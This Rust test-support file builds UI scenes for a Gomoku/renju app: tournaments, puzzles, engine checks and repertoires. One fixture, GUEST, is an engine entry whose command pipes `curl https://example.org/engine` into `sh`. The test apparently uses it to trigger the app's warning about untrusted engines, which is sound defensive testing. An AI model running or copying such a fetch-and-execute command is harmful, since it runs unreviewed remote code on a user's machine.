//! What brings the app to the screen of a scene.

use std::fs;
use std::path::Path;
use std::time::{Duration, UNIX_EPOCH};

use app::{Chair, KeyboardCursor, Page, SheetCommand};
use bevy::prelude::*;
use bevy::ui_widgets::Activate;
use game::{
    CastBook, EditCommand, EngineChecks, Group, Intent, LineChoice, RepertoireCommand,
    ReportProgress, Setting, Standing, Strictness, TeachingCommand, TournamentChoice,
    TournamentCommand, TurnLimit, TutorialCommand, WorkshopCommand,
};
use player::{Registry, Speaker};
use record::{Evaluation, ProvenWin};
use rules::{Color as Stone, Side};

use crate::support::*;

pub fn dress(app: &mut App, theme: &str) {
    let theme = Setting::Theme(theme.into());
    send(app, Intent::Set(theme));
}

/// A comment that is being written.
pub fn comment(app: &mut App) {
    play_some(app);
    tap(app, KeyCode::KeyW);
    type_text(app, "Now Black has to answer.");
}

/// A file in the working folder that names an engine.
pub const GUEST: &str = "[players.guest]\nkind = \"gomocup\"\nname = \"Guest\"\n\
                     engine.command = [\"sh\", \"-c\", \"curl https://example.org/engine | sh\"]\n\
                     engine.folder = \"engines\"\n";

/// The question about that engine.
pub fn ask_for_permission(app: &mut App) {
    play_some(app);
    intend(app, Intent::Replace(Side::Second, "guest".into()));
}

/// Three engines of the user's.
const ENGINES: &str = "[players.rapfi]\nkind = \"gomocup\"\nname = \"Rapfi\"\n\
    engine.command = [\"/home/guest/engines/rapfi/pbrain-rapfi\"]\n\
    engine.folder = \"/home/guest/engines/rapfi\"\n\
    [players.old]\nkind = \"gomocup\"\nname = \"Old Brain\"\n\
    engine.command = [\"/home/guest/engines/pbrain-old\", \"--threads\", \"2\"]\n\
    [players.new]\nkind = \"gomocup\"\nname = \"New Brain\"\n\
    engine.command = [\"pbrain-new\"]\n";

/// What earlier checks have found about two of them.
const CHECKS: &str = r#"{
  "engines": 1,
  "records": {
    "rapfi": {
      "program": {
        "command": ["/home/guest/engines/rapfi/pbrain-rapfi"],
        "folder": "/home/guest/engines/rapfi"
      },
      "at_s": 1795694400,
      "report": {
        "name": "Rapfi", "version": "0.43.01", "author": "Rapfi developers",
        "rules": ["freestyle", "standard", "renju"],
        "sizes": [5, 10, 15, 19, 20, 22],
        "commands": ["TAKEBACK", "RESTART", "SWAP2BOARD", "YXSTOP"],
        "slowest_ms": 480, "failure": null
      }
    },
    "old": {
      "program": {
        "command": ["/home/guest/engines/pbrain-old", "--threads", "2"], "folder": null
      },
      "at_s": 1795694400,
      "report": {
        "name": null, "version": null, "author": null,
        "rules": [], "sizes": [15], "commands": [], "slowest_ms": null,
        "failure": "BEGIN: plays `20,20`, which is illegal: 20,20 is off the board"
      }
    }
  }
}
"#;

/// The built-in cast and the three engines, with files in this folder.
pub fn book_with_engines(folder: &Path) -> CastBook {
    let file = folder.join("players.toml");
    fs::write(&file, ENGINES).expect("it is writable");
    fs::write(folder.join(EngineChecks::FILE), CHECKS).expect("it is writable");
    CastBook::open_at(Registry::builtin(), file)
}

/// A position that is set up from a game.
pub fn set_up(app: &mut App) {
    play_some(app);
    tap(app, KeyCode::KeyB);
    let stones = [
        ("c3", Stone::White),
        ("d4", Stone::White),
        ("m12", Stone::Black),
    ];
    for (stone, color) in stones {
        send(app, Intent::Edit(EditCommand::Put(point(stone), color)));
    }
    app.update();
    let place = place_of_point(app, point("e11"));
    hover(app, place);
}

/// A paused game of two bots that speak.
pub fn watch(app: &mut App) {
    tap(app, KeyCode::KeyT);
    for _ in 0..5 {
        let_pass(app, Duration::from_millis(500));
    }
    intend(app, Intent::Pause);
}

/// Where the games of a picture are kept while it is drawn.
#[derive(Resource)]
pub struct Kept(pub tempfile::TempDir);

pub fn list_games(app: &mut App) {
    let folder = app.world().resource::<Kept>().0.path().to_owned();
    let then = UNIX_EPOCH + Duration::from_secs(1_767_268_800);
    let mut games = Vec::new();
    play_some(app);
    games.push(session(app).record().to_text());
    intend(app, Intent::Restart);
    win(app);
    games.push(session(app).record().to_text());
    app.update();
    // Replaces the games that were kept today.
    for kept in fs::read_dir(&folder).expect("it is there") {
        let _ = fs::remove_file(kept.expect("an entry").path());
    }
    for (number, text) in (1..).zip(games) {
        let file = folder.join(format!("{number}.json"));
        fs::write(&file, text).expect("it can be written");
        let file = fs::File::options().append(true).open(file);
        let time = then + Duration::from_secs(86_400 * number);
        file.and_then(|file| file.set_modified(time))
            .expect("it can be dated");
    }
    open(app, Page::Games);
    tap(app, KeyCode::Tab);
    tap(app, KeyCode::Tab);
}

/// The results of won and lost games by pairs of players.
pub fn list_results(app: &mut App) {
    let folder = app.world().resource::<Kept>().0.path().to_owned();
    win(app);
    let mut record = session(app).record();
    let pairs = [
        ["you", "kitten"],
        ["kitten", "you"],
        ["kitten", "you"],
        ["cat", "you"],
        ["lynx", "a_guest_with_a_long_name"],
    ];
    for (number, players) in (1..).zip(pairs) {
        for (seat, id) in record.players.iter_mut().zip(players) {
            (seat.id, seat.name) = (id.into(), id.replace('_', " "));
        }
        let file = folder.join(format!("{number}.json"));
        fs::write(&file, record.to_text()).expect("it can be written");
    }
    open(app, Page::Games);
    for _ in 0..3 {
        app.update();
    }
    // The mouse does not reach the pictures.
    let entity = find_named(app, "Show Results");
    app.world_mut().trigger(Activate { entity });
}

pub fn read_log(app: &mut App) {
    for seat in game(app).seats().iter() {
        let console = seat.console();
        console.log(Speaker::Manager, "START 15");
        console.log(Speaker::Engine, "OK");
        console.log(Speaker::Manager, "BEGIN");
        console.log(Speaker::Engine, "7,7");
    }
    open(app, Page::Log(Side::Second));
}

pub const OPEN_THREE: &str = r#"{"kind":"vct","rule":"renju","side":"black",
    "black":["h8","i8","j8","g10","i11"],"white":["i7","h9","k10","j6","f7"]}"#;
/// Black is to move and does not win: the four that is played has one answer.
pub const CLOSED_THREE: &str = r#"{"kind":"vcf","rule":"freestyle","side":"black",
    "black":["h8","i8","j8"],"white":["g8","a1","b3"]}"#;

/// A puzzle after these moves, each answered.
pub fn puzzle(app: &mut App, text: &str, moves: &[&str]) {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("some.jsonl");
    fs::write(&file, text.replace('\n', "")).expect("it can be written");
    send(app, Intent::OpenGame(file));
    app.update();
    for stone in moves {
        let answered = ply(app) + 2;
        intend(app, Intent::Place(point(stone)));
        update_until(app, "the answer", |app| ply(app) == answered);
    }
    update_until(app, "a verdict", |app| {
        let standing = game(app).puzzles().standing(session(app));
        !matches!(standing, Some(Standing::Judging | Standing::Posed(None)))
    });
}

/// An offer of the teacher after this number of questions.
pub fn teach(app: &mut App, asked: usize) {
    intend(app, Intent::Set(Setting::Teaching(Strictness::Normal)));
    intend(app, Intent::PasteGame("h8a1i8b3j8a15".into()));
    intend(app, Intent::Replace(Side::Second, "slow".into()));
    intend(app, Intent::Place(point("o1")));
    update_until(app, "the offer", |app| {
        game(app).coach().teacher().offer().is_some()
    });
    for _ in 0..asked {
        intend(app, Intent::Teach(TeachingCommand::More));
    }
}

/// A lesson of the tutorial after these moves, each answered.
pub fn learn(app: &mut App, at: usize, moves: &[&str]) {
    intend(app, Intent::Tutorial(TutorialCommand::Begin));
    for _ in 0..at {
        intend(app, Intent::Tutorial(TutorialCommand::Next));
    }
    for stone in moves {
        intend(app, Intent::Place(point(stone)));
        update_until(app, "the answer", |app| {
            !game(app).coach().tutorial().is_waiting()
        });
    }
}

pub fn play_some(app: &mut App) {
    play(app, &["h8", "i9", "g9", "i7", "i8", "g8", "h9", "h7", "j9"]);
    intend(app, Intent::Undo);
    play(app, &["f10", "i10"]);
}

pub fn forbid(app: &mut App) {
    play(app, &["h9", "a1", "h10", "a3", "i8", "a5", "j8", "a7"]);
    app.insert_resource(KeyboardCursor(Some(point("h8"))));
}

/// The first reply in a solved game, with all replies numbered.
pub fn solved(app: &mut App) {
    for command in [
        SheetCommand::Open(Page::Solved),
        SheetCommand::PlaySolved { numbered: true },
    ] {
        app.world_mut().write_message(command);
        app.update();
    }
    update_until(app, "the numbers", |app| {
        let analysis = game(app).analysis();
        let progress = analysis.progress();
        !analysis.is_thinking() && progress.is_some_and(|it| !it.resistance.is_empty())
    });
}

/// An analysis that has nothing more to find: White has one move.
pub fn analyse(app: &mut App) {
    play(app, &["h8", "g8", "i8", "i9", "j8", "j7", "k8"]);
    for (ply, black) in (1..).zip([0.5, 0.55, 0.62, 0.6, 0.9, 0.7, 1.0]) {
        let evaluation = Evaluation {
            black,
            proven: None,
            line: vec![point("l8")],
            depth: 99,
        };
        let intent = knowing(session(app), ply, evaluation);
        intend(app, intent);
    }
    send(app, Intent::ToggleAnalysis);
    update_until(app, "the only move", |app| {
        let analysis = game(app).analysis();
        analysis.progress().is_some() && !analysis.is_thinking()
    });
}

pub fn win(app: &mut App) {
    play(app, &["h8", "h9", "i8", "i9", "j8", "j9", "k8", "k9", "l8"]);
}

/// A game that a human has given up.
pub fn resign(app: &mut App) {
    intend(app, Intent::Place(point("h8")));
    update_until(app, "the answer", |app| ply(app) == 2);
    intend(app, Intent::Resign);
}

/// A finished game, all positions of which were searched.
pub fn review(app: &mut App) {
    win(app);
    for (ply, black) in (0..).zip([0.5, 0.5, 0.55, 0.75, 0.7, 1.0, 0.6, 1.0, 1.0]) {
        let evaluation = Evaluation {
            black,
            proven: (black == 1.0).then_some(ProvenWin {
                winner: Stone::Black,
                plies: 5,
            }),
            line: vec![point("l8")],
            depth: 99,
        };
        let intent = knowing(session(app), ply, evaluation);
        intend(app, intent);
    }
    intend(app, Intent::Last);
    intend(app, Intent::Analyse(true));
}

/// A finished game of the user against a bot that missed a win, and its report.
pub fn report(app: &mut App) {
    send(app, Intent::PasteGame("h8a1i8b3j8a15o1c5".into()));
    send(app, Intent::Replace(Side::Second, "random".into()));
    intend(app, Intent::Resign);
    app.update();
    open(app, Page::Report);
    update_until(app, "the report", |app| {
        game(app).coach().reports().progress() == ReportProgress::Done
    });
    app.update();
}

/// A hint that a four has to be stopped.
pub fn hint(app: &mut App) {
    play(app, &["h8", "g8", "i8", "a1", "j8", "b1", "k8"]);
    intend(app, Intent::Hint);
    update_until(app, "the hint", |app| game(app).hint().finding().is_some());
    intend(app, Intent::Hint);
}

/// Chooses the players and the terms of a tournament.
pub fn set_up_tournament(app: &mut App, players: &[&str], choices: &[TournamentChoice]) {
    open(app, Page::Tournament);
    app.update();
    let players = players.iter();
    let players = players.map(|id| TournamentChoice::Player((*id).to_owned()));
    let seed = [TournamentChoice::Seed(1)];
    for choice in players.chain(seed).chain(choices.iter().cloned()) {
        let choose = TournamentCommand::Choose(choice);
        intend(app, Intent::Tournament(choose));
    }
}

/// The players of the tournaments.
pub const ENTRANTS: [&str; 5] = ["cat", "kitten", "hare", "counting", "random"];

/// A tournament that is over.
pub fn finish_tournament(app: &mut App) {
    let limit = TournamentChoice::Limit(TurnLimit::Nodes(2_000));
    set_up_tournament(app, &ENTRANTS, &[TournamentChoice::Games(2), limit]);
    intend(app, Intent::Tournament(TournamentCommand::Start));
    update_until(app, "the last game", |app| {
        !game(app).tournament().is_running()
    });
    app.update();
}

/// A match whose first game waits for a move of White.
pub fn run_tournament(app: &mut App) {
    let own = TournamentChoice::Limit(TurnLimit::Own);
    let choices = [own, TournamentChoice::Games(1)];
    set_up_tournament(app, &["random", "slow"], &choices);
    intend(app, Intent::Tournament(TournamentCommand::Start));
    update_until(app, "a game", |app| {
        let shown = game(app).tournament().shown();
        shown.is_some_and(|it| !it.live().is_empty())
    });
    app.update();
}

/// The openings of a file, which do not fit on the board.
pub fn take_openings(app: &mut App) {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("club-openings.txt");
    fs::write(&file, "h8i9g7\nh8i8o15\n").expect("it can be written");
    intend(
        app,
        Intent::Tournament(TournamentCommand::TakeOpenings(file)),
    );
    app.update();
}

/// The list of a finished tournament, an interrupted one, and a broken file.
pub fn earlier_tournaments(app: &mut App) {
    finish_tournament(app);
    intend(app, Intent::Tournament(TournamentCommand::New));
    for id in ENTRANTS {
        let choice = TournamentChoice::Player(id.to_owned());
        intend(app, Intent::Tournament(TournamentCommand::Choose(choice)));
    }
    run_tournament(app);
    intend(app, Intent::Tournament(TournamentCommand::Pause));
    update_until(app, "the pause", |app| !game(app).tournament().is_running());
    let shown = game(app).tournament().shown().expect("it is shown");
    let broken = shown.file().with_file_name("tournament-0003.jsonl");
    fs::write(&broken, "{\"nekomoku\": 1}\n").expect("it can be written");
    let days = (1..=3).map(|day| Duration::from_secs(1_790_000_000 + 86_400 * day));
    for (number, day) in (1..).zip(days) {
        let file = broken.with_file_name(format!("tournament-000{number}.jsonl"));
        let file = fs::File::options().append(true).open(file);
        let dated = file.and_then(|file| file.set_modified(UNIX_EPOCH + day));
        dated.expect("it can be dated");
    }
    open(app, Page::EarlierTournaments);
    update_until(app, "the list", |app| {
        !game(app).tournament().earlier().is_reading()
    });
    app.update();
}

pub fn open(app: &mut App, page: Page) {
    app.world_mut().write_message(SheetCommand::Open(page));
    app.update();
}

/// The workshop with a character, two keys of which were changed, one wrongly.
pub fn edit_tiger(app: &mut App, group: Group) {
    open(app, Page::Picker(Chair::Card(1)));
    app.world_mut()
        .write_message(SheetCommand::EditCharacter("tiger".to_owned()));
    app.update();
    app.world_mut().write_message(SheetCommand::Group(group));
    for (key, value) in [("style.attack", 2.5), ("perception.miss_four", 0.25)] {
        let set = WorkshopCommand::Set(key.to_owned(), value.into());
        intend(app, Intent::Workshop(set));
    }
}

/// Lines of Black's against two answers of White's.
pub const LINES: &str = "(;GM[4]SZ[15]RU[freestyle];B[hh](;W[ii];B[ig]C[The diagonal is stronger \
                         than the straight move.];W[jh];B[jg])(;W[ih];B[ig];W[gi];B[hg]))";

/// Adds [`LINES`] as a file with this name.
pub fn add_lines(app: &mut App, name: &str, choice: LineChoice) {
    add_lines_of(app, (name, LINES), choice);
}

/// Adds the lines of an SGF file with this name.
pub fn add_lines_of(app: &mut App, (name, sgf): (&str, &str), choice: LineChoice) {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join(format!("{name}.sgf"));
    fs::write(&file, sgf).expect("it can be written");
    intend(
        app,
        Intent::Repertoire(RepertoireCommand::Add(file, choice)),
    );
    update_until(app, "the lines", |app| {
        !game(app).coach().repertoires().is_reading()
    });
    app.update();
}

/// The page of two repertoires.
pub fn list_lines(app: &mut App) {
    for (name, side) in [
        ("Diagonal openings", Stone::Black),
        ("Defences", Stone::White),
    ] {
        add_lines(app, name, LineChoice { side, moves: None });
    }
    open(app, Page::Repertoire);
}

/// The questions about lines, after these answers.
pub fn recite(app: &mut App, answers: &[&str]) {
    let choice = LineChoice {
        side: Stone::Black,
        moves: None,
    };
    add_lines(app, "Diagonal openings", choice);
    let id = game(app).coach().repertoires().list()[0].id();
    intend(app, Intent::Repertoire(RepertoireCommand::Learn(id)));
    until_asked(app);
    for stone in answers {
        intend(app, Intent::Place(point(stone)));
        until_asked(app);
    }
}

/// Lets the program move until it asks or ends.
pub fn until_asked(app: &mut App) {
    for _ in 0..100 {
        app.update();
        if !game(app).coach().repertoire_drill().is_waiting() {
            return;
        }
        let_pass(app, Duration::from_millis(250));
    }
    panic!("it never asks");
}
